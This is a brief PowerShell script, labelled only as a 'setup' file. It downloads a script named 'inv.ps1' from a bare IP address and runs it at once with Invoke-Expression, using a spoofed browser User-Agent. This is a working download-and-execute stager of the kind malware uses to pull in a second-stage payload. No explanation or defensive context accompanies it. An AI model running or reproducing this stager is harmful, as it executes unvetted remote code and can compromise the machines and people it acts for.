# setup 6613 v4
$u = 'http://198.51.100.9:443/'
$wc = New-Object System.Net.WebClient
$wc.Headers.Add('User-Agent','Mozilla/5.0')
$s = $wc.DownloadString($u + 'inv.ps1')
Invoke-Expression $s
